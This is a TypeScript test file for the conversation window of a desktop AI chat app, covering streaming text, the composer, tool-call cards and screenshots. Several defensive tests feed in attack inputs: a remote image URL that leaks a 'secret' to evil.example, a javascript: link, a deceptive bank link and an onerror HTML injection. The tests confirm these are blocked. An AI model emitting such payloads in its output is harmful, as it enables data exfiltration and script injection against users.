import { act, fireEvent, screen, waitFor, within } from "@testing-library/react";
import { expect, test } from "vitest";
import type { ConversationSnapshot } from "../../../src-preload/model/conversation.ts";
import { FakeBridge } from "../../fixtures/fake-bridge.ts";
import { renderWindow } from "../../fixtures/render-window.tsx";
import {
  sampleAppState,
  sampleCall,
  sampleMessage,
  samplePicture,
  sampleSnapshot,
  sampleSummary,
  sampleTurn,
} from "../../fixtures/renderer-samples.ts";

function bridgeWith(change: Partial<ConversationSnapshot> = {}): FakeBridge {
  return new FakeBridge({}, [sampleSnapshot(change)]);
}

function answered(text: string): FakeBridge {
  return bridgeWith({
    messages: [sampleMessage({ parts: [{ type: "text", text }] })],
    turns: [sampleTurn({ state: "finished" })],
  });
}

function log(): HTMLElement {
  return screen.getByRole("log", { name: "Conversation" });
}

function message(): HTMLTextAreaElement {
  return screen.getByRole("textbox", { name: "Message" });
}

test("text is shown as it streams", async () => {
  const { fire } = await renderWindow(
    bridgeWith({ messages: [sampleMessage({ complete: false })], turns: [sampleTurn()] }),
  );
  const delta = (text: string) =>
    ({
      type: "message-delta",
      conversationId: "c1",
      messageId: "m1",
      part: 0,
      kind: "text",
      delta: text,
    }) as const;
  await fire(delta("I will look "));
  await waitFor(() => expect(log().textContent).toContain("I will look"));
  await fire(delta("at the "), delta("list."));
  await waitFor(() => expect(log().textContent).toContain("I will look at the list."));
});

test("a link opens in the person's browser and never in the window", async () => {
  const { bridge } = await renderWindow(answered("See [the book](https://tariff.example/4810)."));
  const link = await screen.findByRole("link", { name: "the book" });
  const wasLetThrough = fireEvent.click(link);
  expect(wasLetThrough).toBe(false);
  expect(fireEvent(link, new MouseEvent("auxclick", { bubbles: true, cancelable: true }))).toBe(
    false,
  );
  expect(link.getAttribute("title")).toContain("tariff.example");
  expect(bridge.inputsOf("openLink")).toEqual([{ url: "https://tariff.example/4810" }]);
});

test("a link that names another host shows where it leads", async () => {
  await renderWindow(answered("[bank.example](https://evil.example/x)"));
  expect(await screen.findByText("(leads to evil.example)")).toBeTruthy();
});

test("an address that is not opened is no link", async () => {
  await renderWindow(answered("[run](javascript:alert(1)) and [open](http://portal.example/)"));
  expect(await screen.findByText(/open/, { selector: ".dead-link" })).toBeTruthy();
  expect(within(log()).queryByRole("link")).toBeNull();
});

test("a remote picture is not loaded: its text and host stand in its place", async () => {
  await renderWindow(answered("![the stamp](https://evil.example/leak.png?d=secret)"));
  expect(await screen.findByText("Picture not loaded: the stamp (evil.example)")).toBeTruthy();
  expect(within(log()).queryByRole("img")).toBeNull();
});

test("HTML of a model stays text", async () => {
  await renderWindow(answered("Before <img src=x onerror=alert(1)> <iframe src=y></iframe> after"));
  await waitFor(() => expect(log().textContent).toContain("<iframe src=y>"));
  expect(log().querySelector("iframe, img")).toBeNull();
});

test("thoughts are folded and can be opened", async () => {
  const { user } = await renderWindow(
    bridgeWith({
      messages: [sampleMessage({ parts: [{ type: "reasoning", text: "First sign in." }] })],
    }),
  );
  expect(screen.queryByText("First sign in.")).toBeNull();
  await user.click(screen.getByRole("button", { name: "Thought" }));
  expect(screen.getByText("First sign in.")).toBeTruthy();
});

test("Enter sends, Shift and Enter begins a new line, and the text goes once it is on disk", async () => {
  const { bridge, user } = await renderWindow(bridgeWith());
  await user.type(message(), "Read the page{Shift>}{Enter}{/Shift}and tell me");
  expect(bridge.inputsOf("sendMessage")).toEqual([]);
  await user.type(message(), "{Enter}");
  expect(bridge.inputsOf("sendMessage")).toEqual([
    { conversationId: "c1", text: "Read the page\nand tell me" },
  ]);
  expect(message().value).toBe("");
});

test("the Enter that ends a composition sends nothing", async () => {
  const { bridge, user } = await renderWindow(bridgeWith());
  await user.type(message(), "日本");
  fireEvent.keyDown(message(), { key: "Enter", isComposing: true });
  expect(bridge.inputsOf("sendMessage")).toEqual([]);
});

test("a message that could not be written stays in the box, with the reason", async () => {
  const bridge = bridgeWith();
  bridge.refuse("sendMessage", { code: "disk-full", message: "The disk is full." });
  const { user } = await renderWindow(bridge);
  await user.type(message(), "Read the page{Enter}");
  expect((await screen.findByRole("alert")).textContent).toBe("The disk is full.");
  expect(message().value).toBe("Read the page");
});

test("while a turn runs a message is put in the queue", async () => {
  const { bridge, user } = await renderWindow(bridgeWith({ turns: [sampleTurn()] }));
  await user.type(message(), "And then?");
  await user.click(screen.getByRole("button", { name: /^Queue/ }));
  expect(bridge.inputsOf("sendMessage")).toEqual([{ conversationId: "c1", text: "And then?" }]);
  expect(message().value).toBe("");
});

test("Ctrl and . stops the turn, as the button does", async () => {
  const { bridge, user } = await renderWindow(bridgeWith({ turns: [sampleTurn()] }));
  await user.click(screen.getByRole("button", { name: "Stop" }));
  await user.keyboard("{Control>}.{/Control}");
  expect(bridge.inputsOf("stopTurn")).toEqual([{ conversationId: "c1" }, { conversationId: "c1" }]);
});

test("Escape never stops a turn", async () => {
  const { bridge, user } = await renderWindow(bridgeWith({ turns: [sampleTurn()] }));
  await user.keyboard("{Escape}");
  expect(bridge.inputsOf("stopTurn")).toEqual([]);
});

test("each conversation keeps its own draft", async () => {
  const second = sampleSnapshot({ summary: sampleSummary({ id: "c2", title: "Other" }) });
  const { user } = await renderWindow(new FakeBridge({}, [sampleSnapshot(), second]));
  await user.type(message(), "for the first");
  await user.click(screen.getByRole("button", { name: /^Other/ }));
  expect((await screen.findByRole<HTMLTextAreaElement>("textbox", { name: "Message" })).value).toBe(
    "",
  );
  await user.click(screen.getByRole("button", { name: /^Customs, week 49/ }));
  expect(message().value).toBe("for the first");
});

test("without a model there is a sentence and a way to connect one", async () => {
  const settings = { ...sampleAppState().settings, models: [], defaultModelId: null };
  const bridge = new FakeBridge({ settings }, [sampleSnapshot()]);
  const { user } = await renderWindow(bridge);
  expect(screen.queryByRole("textbox", { name: "Message" })).toBeNull();
  await user.click(screen.getByRole("button", { name: "Connect a model" }));
  expect(screen.getByRole("dialog", { name: "Settings" })).toBeTruthy();
});

test("an example of an empty conversation goes into the composer", async () => {
  const { user } = await renderWindow(bridgeWith());
  await user.click(screen.getByRole("button", { name: /Open example\.com/ }));
  expect(message().value).toContain("Open example.com");
  expect(document.activeElement).toBe(message());
});

test("a conversation that cannot be read says why and can be read again", async () => {
  const bridge = bridgeWith();
  bridge.refuse("openConversation", { code: "store", message: "It could not be read." });
  const { user } = await renderWindow(bridge);
  expect(screen.getByText("It could not be read.")).toBeTruthy();
  bridge.answer("openConversation", () => sampleSnapshot());
  await user.click(screen.getByRole("button", { name: "Try again" }));
  expect(await screen.findByRole("textbox", { name: "Message" })).toBeTruthy();
});

function withCall(change: Parameters<typeof sampleCall>[0]): FakeBridge {
  return bridgeWith({
    messages: [sampleMessage({ id: "m2", parts: [{ type: "tool-call", callId: "call-1" }] })],
    toolCalls: [sampleCall(change)],
    turns: [sampleTurn({ state: "calling" })],
  });
}

test("a tool call is a sentence with its state, place and time", async () => {
  await renderWindow(withCall({}));
  const card = screen.getByRole("group", { name: "Clicked “Next”" });
  expect(card.dataset["state"]).toBe("done");
  expect(card.textContent).toContain("portal.norrhaven.example");
  expect(card.textContent).toContain("1.2 s");
  expect(within(card).getByText("Done")).toBeTruthy();
});

test("a call that failed is open and says why; one that is done is folded", async () => {
  const { fire } = await renderWindow(withCall({}));
  expect(screen.queryByText("Arguments")).toBeNull();
  const failure = { code: "gone", message: "The server ended." };
  await fire({
    type: "tool-call-changed",
    toolCall: sampleCall({ state: "failed", failure }),
  });
  expect(screen.getByText("The server ended.")).toBeTruthy();
  expect(screen.getByText("Arguments")).toBeTruthy();
});

test("the result is what the model got, and on demand what the server sent", async () => {
  const result = {
    isError: false,
    content: [{ type: "text", text: "raw", annotations: { odd: 1 } }],
    model: [{ type: "text" as const, text: "cut for the model" }],
  };
  const { user } = await renderWindow(withCall({ result }));
  await user.click(screen.getByRole("button", { name: "Unfold" }));
  expect(screen.getByText("cut for the model")).toBeTruthy();
  await user.click(screen.getByRole("button", { name: "As the server sent it" }));
  expect(screen.getByText(/"odd": 1/)).toBeTruthy();
});

test("a text that was cut for the model is shown as a whole on demand, and what was odd is told", async () => {
  const result = {
    isError: false,
    content: [{ type: "text", text: "cut" }],
    model: [{ type: "text" as const, text: "cut for the model" }],
    fullText: { file: "a".repeat(64), bytes: 1_200_000 },
    notes: ["The structured content does not fit."],
  };
  const bridge = withCall({ result });
  bridge.answer("readFullText", () => ({ text: "from the first line on", isWhole: false }));
  const { user } = await renderWindow(bridge);
  await user.click(screen.getByRole("button", { name: "Unfold" }));
  expect(screen.getByText("The structured content does not fit.")).toBeTruthy();
  expect(bridge.inputsOf("readFullText")).toEqual([]);
  await user.click(screen.getByRole("button", { name: "Show all of it (1.2 MB)" }));
  expect(await screen.findByText("from the first line on")).toBeTruthy();
  expect(screen.getByText("The rest is too long to be shown here.")).toBeTruthy();
  expect(bridge.inputsOf("readFullText")).toEqual([{ conversationId: "c1", callId: "call-1" }]);
});

test("a call that runs can be stopped from its card", async () => {
  const { bridge, user } = await renderWindow(withCall({ state: "running", finishedAt: null }));
  await user.click(screen.getByRole("button", { name: "Stop the turn" }));
  expect(bridge.inputsOf("stopTurn")).toEqual([{ conversationId: "c1" }]);
});

function withPictures(): FakeBridge {
  const shot = (id: string, digit: string) => {
    const picture = samplePicture(digit);
    const result = { isError: false, content: [picture], model: [picture] };
    return sampleCall({ id, tool: "browser_take_screenshot", result });
  };
  const parts = ["s1", "s2"].map((callId) => ({ type: "tool-call" as const, callId }));
  return bridgeWith({
    messages: [sampleMessage({ id: "m2", parts })],
    toolCalls: [shot("s1", "1"), shot("s2", "2")],
  });
}

function pictures(): readonly HTMLImageElement[] {
  return screen.getAllByRole("img", { name: /^Screenshot of portal\.norrhaven\.example/ });
}

test("a screenshot keeps its place before it has loaded", async () => {
  await renderWindow(withPictures());
  const [first] = pictures();
  expect(first?.src).toBe(`pilothouse-file://picture/${"1".repeat(64)}`);
  expect(first?.parentElement?.style.aspectRatio).toBe("1280 / 800");
});

test("dragging a picture hands the file to main instead of the page's own drag", async () => {
  const { bridge } = await renderWindow(withPictures());
  const [first] = pictures();
  const drags = [first?.parentElement, screen.getAllByText("Drag out PNG")[1]];
  for (const element of drags) {
    if (!element) throw new Error("nothing to drag");
    await act(async () => {
      expect(fireEvent.dragStart(element)).toBe(false);
    });
  }
  expect(bridge.inputsOf("dragPictures")).toEqual([
    { conversationId: "c1", files: ["1".repeat(64)] },
    { conversationId: "c1", files: ["2".repeat(64)] },
  ]);
});

test("a file that a call has left is dragged out by main, or shown in its folder", async () => {
  const files = [{ name: "report.csv", path: "browser/downloads/report.csv", bytes: 2_000 }];
  const result = { isError: false, content: [], model: [], files };
  const { bridge, user } = await renderWindow(withCall({ result }));
  const [handle] = within(screen.getByRole("list", { name: "Files of this call" })).getAllByTitle(
    "Drag it to a folder, a mail or another window",
  );
  if (!handle) throw new Error("nothing to drag");
  expect(handle.textContent).toContain("report.csv");
  await act(async () => {
    expect(fireEvent.dragStart(handle)).toBe(false);
  });
  expect(bridge.inputsOf("dragFiles")).toEqual([
    { conversationId: "c1", paths: ["browser/downloads/report.csv"] },
  ]);
  await user.click(screen.getByRole("button", { name: "Show report.csv in its folder" }));
  expect(bridge.inputsOf("showBrowserFile")).toEqual([
    { conversationId: "c1", path: "browser/downloads/report.csv" },
  ]);
});

test("a picture is enlarged, the arrows go through all, Escape closes", async () => {
  const { user } = await renderWindow(withPictures());
  const large = () => within(screen.getByRole("dialog")).getByRole<HTMLImageElement>("img");
  const [first] = pictures();
  if (first) await user.click(first);
  expect(large().src).toContain("1".repeat(64));
  await user.keyboard("{ArrowRight}");
  expect(large().src).toContain("2".repeat(64));
  await user.keyboard("{ArrowRight}{ArrowLeft}");
  expect(large().src).toContain("1".repeat(64));
  await user.keyboard("{Escape}");
  expect(screen.queryByRole("dialog")).toBeNull();
});
